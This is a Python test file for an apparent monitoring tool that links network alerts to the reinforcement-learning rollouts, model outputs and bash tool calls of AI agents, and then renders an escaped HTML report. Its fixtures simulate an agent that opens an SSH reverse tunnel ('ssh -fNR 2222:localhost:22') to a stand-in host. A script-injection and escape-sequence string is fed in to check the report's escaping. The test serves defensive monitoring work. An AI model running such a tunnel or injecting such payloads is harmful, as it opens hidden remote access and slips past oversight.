"""The page about an attribution: what it says, that nothing in a log or a command can play with it, that it repeats."""

from __future__ import annotations

import argparse
import base64
import hashlib
import json
import os
import re
import subprocess
import sys
from html.parser import HTMLParser
from itertools import pairwise
from pathlib import Path
from typing import Any

import pytest

from ray_guard.attribution.answers import Candidate
from ray_guard.attribution.attribute import attribute
from ray_guard.attribution.document import found
from ray_guard.cli import attribute as command
from ray_guard.cli.__main__ import main
from ray_guard.records import SpanKind
from ray_guard.report import attribution, causes, text

SECOND = 1_000_000_000
START = 1_772_854_811 * SECOND  # where the evidence of conftest.py begins: 2026-03-07 03:40:11 UTC
HOSTILE = "<script>alert(1)</script>\u202e&\"'\x1b[31m"
FAR = "198.51.100.7"


class Reader(HTMLParser):
    """The page's text as lines, and what a browser would act upon."""

    def __init__(self) -> None:
        super().__init__()
        self.lines: list[str] = []
        self.scripts: list[str] = []
        self.links: list[str] = []
        self.handlers: list[str] = []
        self.policy = ""
        self._inside = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._inside = tag
        if tag == "script":
            self.scripts.append("")
        for name, value in attrs:
            if name in ("src", "href", "action", "data", "xlink:href"):
                self.links.append(value or "")
            if name.startswith("on"):
                self.handlers.append(name)
            if name == "content" and "default-src" in (value or ""):
                self.policy = value or ""

    def handle_data(self, data: str) -> None:
        if self._inside == "script" and data.strip():
            self.scripts[-1] += data
        elif self._inside != "style" and data.strip():
            self.lines.append(data.strip())

    def handle_endtag(self, tag: str) -> None:
        self._inside = ""


def read(path: Path) -> Reader:
    reader = Reader()
    reader.feed(path.read_text(encoding="utf-8"))
    return reader


def job(writer: Any, *, hostile: str = "") -> Path:
    """One group of two rollouts; the second opens a tunnel from a shell's child."""
    for number in range(2):
        at = 10.0 * number
        writer.identity = {
            "rl.run.id": "demo",
            "rl.iteration": 3,
            "rl.rollout.id": f"r-{number}{hostile}",
            "rl.group.id": "g-0",
            "rl.policy.version": "7",
        }
        rollout = writer.write(
            "invoke_agent rome", None, at, 9.0, source="target", rl__reward__score=0.25 + 0.5 * number
        )
        turn = writer.write("rl.turn", rollout, at + 0.1, 8.0, source="target", rl__turn=4)
        spoken = [{"role": "assistant", "parts": [{"type": "text", "content": f"I open a tunnel.{hostile}"}]}]
        writer.write(
            "chat qwen3-moe", turn, at + 0.2, 0.5, source="target", kind=SpanKind.CLIENT,
            gen_ai__usage__input_tokens=1200, gen_ai__usage__output_tokens=34,
            gen_ai__output__messages=json.dumps(spoken),
        )  # fmt: skip
        call = writer.write(
            "execute_tool bash", turn, at + 1, 6.0, source="target", gen_ai__tool__name="bash",
            gen_ai__tool__call__id=f"call-{number}",
            gen_ai__tool__call__arguments=json.dumps({"command": f"ssh -fNR 2222:localhost:22 m@{FAR} {hostile}"}),
        )  # fmt: skip
        shell = writer.write(
            "process bash", call, at + 1.1, 5.0, process__pid=100 + number, process__command_args=("bash", "-c")
        )
        if number:
            ssh = writer.write(
                "process ssh",
                shell,
                at + 1.2,
                4.0,
                process__pid=200,
                process__command_args=("ssh", "-fNR", hostile),
            )
            writer.flow(
                ssh, at + 1.3, FAR, 22, reason=f"rule {hostile}", lasting=3.0, network__local__address="192.0.2.1",
                network__local__port=40001, ray_guard__egress__bytes_sent=180,
            )  # fmt: skip
    return Path(writer.journal.folder)


def alert(at: float, *, port: int = 40001, src: str = "192.0.2.1", signature: str = "reverse tunnel") -> str:
    moment = text.moment(START + round(at * SECOND))
    record: dict[str, Any] = {
        "timestamp": f"{moment:%Y-%m-%dT%H:%M:%S.%f}+0000", "event_type": "alert", "src_ip": src, "src_port": port,
        "dest_ip": FAR, "dest_port": 22, "proto": "TCP",
        "alert": {"action": "allowed", "signature_id": 1, "signature": signature},
    }  # fmt: skip
    return json.dumps(record) + "\n"


def written(folder: Path, *lines: str, name: str = "eve.json") -> Path:
    path = folder / name
    path.write_text("".join(lines), encoding="utf-8")
    return path


def page(folder: Path, traces: Path, alerts: Path) -> Path:
    """As the command writes it."""
    parser = argparse.ArgumentParser()
    command.add_parser(parser.add_subparsers())
    out = folder / "page.html"
    words = ["attribute", "--traces", str(traces), "--alerts", str(alerts), "--html", str(out)]
    assert command.run(parser.parse_args([*words, "--json", str(folder / "answer.json")])) == 0
    return out


@pytest.mark.usefixtures("capsys")
def test_a_chain_leads_from_the_iteration_to_the_alert(writer: Any, tmp_path: Path) -> None:
    log = written(tmp_path, alert(12.0))
    lines = read(page(tmp_path, job(writer), log)).lines
    assert "1 of 2 rollouts set off alerts." in lines[: lines.index("What was read")]
    at = lines.index("iteration", lines.index("Chains"))
    chain = lines[at : lines.index("Reward against alerts")]
    assert [said for said in chain if said in _LINKS] == _LINKS
    said = dict(pairwise(chain))
    assert said["iteration"] == "3 · run demo"
    assert said["rollout"].startswith(
        "r-1 · group g-0 · policy version 7 · actor env-0 · "
        "reward 0.750, against a mean of 0.250 of 1 other in its group"
    )
    assert said["turn"] == "4"
    output = chain.index("model output")
    assert chain[output + 1 : output + 3] == ["qwen3-moe · 1200 tokens in, 34 out", "I open a tunnel."]
    tool = chain.index("tool call")
    assert chain[tool + 1].startswith("bash · call-1 · 03:40:22.000 UTC for 6.0 s · on node-a · span ")
    assert f"m@{FAR}" in chain[tool + 2]
    outer = chain.index("process")
    inner = chain.index("process", outer + 1)
    assert (chain[outer + 1].split(" · ")[0], chain[outer + 2]) == ("pid 101", "bash -c")
    assert (chain[inner + 1].split(" · ")[0], chain[inner + 2]) == ("pid 200", "ssh -fNR")
    assert said["flow"].startswith(f"tcp 192.0.2.1:40001 to {FAR}:22 · {FAR} · allowed: rule")
    assert said["alert"] == f"2026-03-07 03:40:23 UTC · {log}:0 · 192.0.2.1:40001 to {FAR}:22 · 1 reverse tunnel"
    assert chain[chain.index("alert") + 2] == log.read_text().strip()
    assert said["for"] == "the command names the destination"  # the last of them
    assert "the supervisor recorded this very socket in this call" in chain
    assert said["came second"].startswith("nobody in this job (0.0")


_LINKS = ["iteration", "rollout", "turn", "model output", "tool call", "process", "process", "flow", "alert"]


def test_nothing_in_a_log_or_a_command_is_markup(
    writer: Any, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Rollouts, commands, model output, reasons and the log itself are hostile: one script remains, the page's own."""
    log = written(tmp_path, alert(12.0, signature=HOSTILE), HOSTILE + "\n", name="<img src=x onerror=alert(1)>.json")
    out = page(tmp_path, job(writer, hostile=HOSTILE), log)
    found = read(out)
    raw = out.read_text(encoding="utf-8")
    printed = capsys.readouterr().out
    assert "\\x1b[31m" in printed, "nor does a terminal obey a rollout's name"
    assert all(line.isprintable() for line in printed.splitlines())
    assert len(found.scripts) == 1
    digest = base64.b64encode(hashlib.sha256(found.scripts[0].encode()).digest()).decode()
    assert found.policy == f"default-src 'none'; style-src 'unsafe-inline'; script-src 'sha256-{digest}'"
    assert not found.handlers
    assert all(link.startswith("#a") for link in found.links)
    assert "\u202e" not in raw
    assert "\x1b" not in raw
    shown = [line for line in found.lines if "<script>alert(1)</script>\\u202e" in line]
    assert len(shown) >= 6  # rollout, model output, command, process, flow, alert


@pytest.mark.usefixtures("capsys")
def test_the_bundle_names_what_was_read_and_what_was_answered(writer: Any, tmp_path: Path) -> None:
    log = written(tmp_path, alert(12.0), alert(13.0, src="203.0.113.9"))
    out = page(tmp_path, job(writer), log)
    lines = read(out).lines
    (segment,) = (tmp_path / "evidence").glob("*.otlp.jsonl")
    for path in (segment, log, tmp_path / "answer.json"):
        assert hashlib.sha256(path.read_bytes()).hexdigest() in lines
    assert f"--traces {tmp_path / 'evidence'} --alerts {log}" in lines[lines.index("Bundle") + 2]


def test_the_same_evidence_and_command_give_the_same_bytes(writer: Any, tmp_path: Path) -> None:
    log = written(tmp_path, *(alert(float(at), port=port) for at in range(9, 17) for port in (40001, 40002)))
    job(writer)
    pages = set()
    for seed in ("1", "2"):
        subprocess.run(
            [sys.executable, "-m", "ray_guard.cli", "attribute", "--traces", "evidence", "--alerts", log.name,
             "--html", "page.html"],
            cwd=tmp_path, check=True, capture_output=True, env=os.environ | {"PYTHONHASHSEED": seed},
        )  # fmt: skip
        pages.add((tmp_path / "page.html").read_bytes())
    assert len(pages) == 1


def test_what_is_not_shown_is_said_and_what_the_job_did_stays(
    writer: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(causes, "ALERT_LIMIT", 3)
    monkeypatch.setattr(causes, "CHAIN_LIMIT", 2)
    monkeypatch.setattr(causes, "INFORMATIONAL_LIMIT", 1)
    strays = [
        alert(10.0 + n / 10, src="203.0.113.9", port=n, signature="stray").replace(FAR, "192.0.2.77") for n in range(5)
    ]
    quiet = [alert(12.0, signature="").replace('"event_type": "alert"', '"event_type": "tls"')] * 4
    log = written(tmp_path, *strays, alert(12.0), *[line.replace('"alert": {', '"x": {') for line in quiet])
    monkeypatch.setattr(attribution, "_OPEN", 1)
    whole = page(tmp_path, job(writer), log)
    assert re.findall(r"<details( open)? class=", whole.read_text()) == [" open", ""], "the others are a line each"
    found = read(whole).lines
    assert "open all (closed ones are not printed)" in found
    assert "6; 3 more alerts are not shown here; the JSON has all" in found
    assert any("4 more chains are not shown here" in line for line in found)
    assert any("4 informational records" in line and "3 more of them are not shown" in line for line in found)
    assert f"{log}:5" in found


@pytest.mark.usefixtures("capsys")
def test_endless_text_does_not_make_an_endless_page(writer: Any, tmp_path: Path) -> None:
    """Each of these characters is written out as ten."""
    log = written(tmp_path, *[alert(12.0, signature="\U000e0001" * 100_000)] * 20)
    out = page(tmp_path, job(writer, hostile="\U000e0001&" * 100_000), log)
    assert out.stat().st_size < 20 * 150_000
    assert "… cut here" in out.read_text(encoding="utf-8")


@pytest.mark.parametrize("lines", [(), ("no log at all\n",)])
@pytest.mark.usefixtures("capsys")
def test_logs_without_alerts(writer: Any, tmp_path: Path, lines: tuple[str, ...]) -> None:
    found = read(page(tmp_path, job(writer), written(tmp_path, *lines)))
    assert "no record in these logs is an alert: nothing was refused, and no rule or signature spoke" in found.lines
    assert "nothing alerted twice" in found.lines
    assert "Chains" not in found.lines


@pytest.mark.usefixtures("capsys")
def test_traces_without_calls(writer: Any, tmp_path: Path) -> None:
    writer.write("rl.iteration", None, 0.0, 5.0, source="target")
    found = read(page(tmp_path, tmp_path / "evidence", written(tmp_path, alert(1.0)))).lines
    assert "1 of nobody in this job" in found
    assert "No call of this job was open on that machine at that time." in found


def test_a_page_that_cannot_be_written_is_named(
    writer: Any, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "page.html").mkdir()
    with pytest.raises(AssertionError):
        page(tmp_path, job(writer), written(tmp_path, alert(12.0)))
    assert f"{tmp_path / 'page.html'} cannot be written: Is a directory" in capsys.readouterr().err


@pytest.mark.parametrize("name", ["eve.json", "evidence/driver.otlp.jsonl"])
def test_an_answer_is_not_written_over_what_it_is_made_of(
    writer: Any, tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str
) -> None:
    evidence, log = job(writer), written(tmp_path, alert(12.0))
    target = tmp_path / name
    if not target.exists():
        next(evidence.glob("*.otlp.jsonl")).rename(target)
    before = target.read_bytes()
    words = ["attribute", "--traces", str(evidence), "--alerts", str(log), "--json", str(target)]
    assert main(words) == 2
    assert "is one of the files to read; write the answer elsewhere" in capsys.readouterr().err
    assert target.read_bytes() == before


@pytest.mark.usefixtures("capsys")
def test_what_ends_before_its_end_leaves_what_was_there(
    writer: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Ctrl-C while the answer is written."""

    def interrupted(*_: object) -> None:
        raise KeyboardInterrupt

    evidence, log, out = job(writer), written(tmp_path, alert(12.0)), tmp_path / "answer.json"
    out.write_text("of last time")
    monkeypatch.setattr(command.document, "write", interrupted)
    assert main(["attribute", "--traces", str(evidence), "--alerts", str(log), "--json", str(out)]) == 130
    assert out.read_text() == "of last time"
    assert sorted(each.name for each in tmp_path.iterdir()) == ["answer.json", "eve.json", "evidence"]


@pytest.mark.parametrize("year", ["0", "99999", "20x6", "-1"])
def test_a_year_that_is_none_is_named(year: str, capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as ended:
        main(["attribute", "--traces", "t", "--alerts", "a", f"--year={year}"])
    assert ended.value.code == 2
    assert f"'{year}' is no year from 1970 to 2261" in capsys.readouterr().err


def test_a_late_reward_and_a_checkpoint_that_alone_alerts(writer: Any, tmp_path: Path) -> None:
    """Rewards are told twice and after the end, in a trace of their own; no iteration is known."""
    lines = []
    for number in range(12):
        at, bad = 10.0 * number, number >= 8
        writer.identity = {"rl.run.id": "demo", "rl.rollout.id": f"r-{number}", "rl.group.id": f"g-{number % 4}",
                           "rl.policy.version": str(number // 4)}  # fmt: skip
        rollout = writer.write("invoke_agent a", None, at, 9.0, source="target", rl__reward__score=0.9)
        call = writer.write("execute_tool bash", rollout, at + 1, 6.0, source="target", gen_ai__tool__name="bash")
        if bad:
            writer.flow(call, at + 2, FAR, 22, reason="x", network__local__address="192.0.2.1",
                        network__local__port=40000 + number)  # fmt: skip
            lines.append(alert(at + 2, port=40000 + number))
        writer.identity = {"rl.run.id": "demo", "rl.rollout.id": f"r-{number}"}
        score = 0.5 + 0.01 * number * bad if number != 3 else "nan"
        writer.write(
            "ray_guard.reward", None, at + 9.5, source="target", rl__reward__score=score, rl__advantage=1.0 * bad
        )
    writer.journal.close()
    answer = found(attribute([tmp_path / "evidence"], [written(tmp_path, *lines)]))
    assert answer["reward"]["rollouts"] == 12, "a reward is no rollout"
    assert answer["reward"]["groups"] == 4
    assert answer["reward"]["within_group_difference"] == pytest.approx((0.08 + 0.09 + 0.10 + 0.11 - 0.2) / 4, abs=1e-9)
    assert answer["reward"]["advantage_difference"] == pytest.approx(1.0)
    (checkpoint,) = [each for each in answer["recurrence"] if each["dimension"] == "checkpoint"]
    assert (checkpoint["pattern"], checkpoint["alerts"], checkpoint["calls"]) == ("2", 4, 4)
    assert checkpoint["p_value"] == pytest.approx(1 / 495)


@pytest.mark.parametrize(("content", "why"), [("", ""), ('{"a": 1}\n', "; of their lines 1 foreign could not be used")])
def test_traces_without_spans_do_not_clear_a_job(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], content: str, why: str
) -> None:
    """That nobody did it says something only where it is known who was there."""
    traces = written(tmp_path, content, name="traces.jsonl")
    beware = f"beware: there is no tool call in the traces{why}: nobody can be named, which clears nobody"
    assert beware in read(page(tmp_path, traces, written(tmp_path, alert(12.0)))).lines
    assert beware in capsys.readouterr().out.splitlines()


def test_traces_of_another_time_are_named(writer: Any, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    log = written(tmp_path, alert(12.0).replace("2026-", "2031-"))
    assert main(["attribute", "--traces", str(job(writer)), "--alerts", str(log)]) == 0
    assert "beware: the records are of 2031-03-07 03:40:" in capsys.readouterr().out


def test_an_input_that_is_gone_is_said_to_be(writer: Any, tmp_path: Path) -> None:
    evidence, log = job(writer), written(tmp_path, alert(12.0))
    result = attribute([evidence], [log])
    (whole,) = [each for each in causes.inputs(result, [str(evidence)], ["nat.csv"]) if each.role == "NAT map"]
    assert (whole.size, whole.sha256) == (None, "cannot be read: No such file or directory")
    assert causes.gather(result, found(result)).verdicts == {"attributed": 1}


def candidate(tier: str, evidence: list[str], against: list[str]) -> Candidate:
    return Candidate(0.5, tier, 1, {"rollout": "r"}, evidence, against)


@pytest.mark.parametrize(
    ("second", "why"),
    [
        (candidate("socket", ["a"], []), "the same evidence speaks for both: only how long they lived and how near"),
        (candidate("interval", [], ["b"]), "its evidence is interval, not socket; it lacks: a; against it: b."),
    ],
)
def test_why_the_second_lost(second: Candidate, why: str) -> None:
    assert causes.why_lost(candidate("socket", ["a"], []), second).startswith(why)


def test_a_far_alert_does_not_squeeze_the_timeline() -> None:
    hour = 3600 * SECOND
    drawn = attribution.timeline(
        [(START, "attributed"), (START + 9999 * hour, "ambiguous")], [(0, START, START + hour)]
    )
    assert "not drawn, being far before or after: 1 alert<" in drawn
    assert text.date(START + hour) in drawn


def test_many_iterations_share_bands() -> None:
    iterations = [(n, START + n * SECOND, START + (n + 1) * SECOND) for n in range(5000)]
    drawn = attribution.timeline([(START, "attributed")], iterations)
    assert drawn.count("<title>iteration") <= 120
    assert re.search(r"iterations? 0 to 41", drawn)
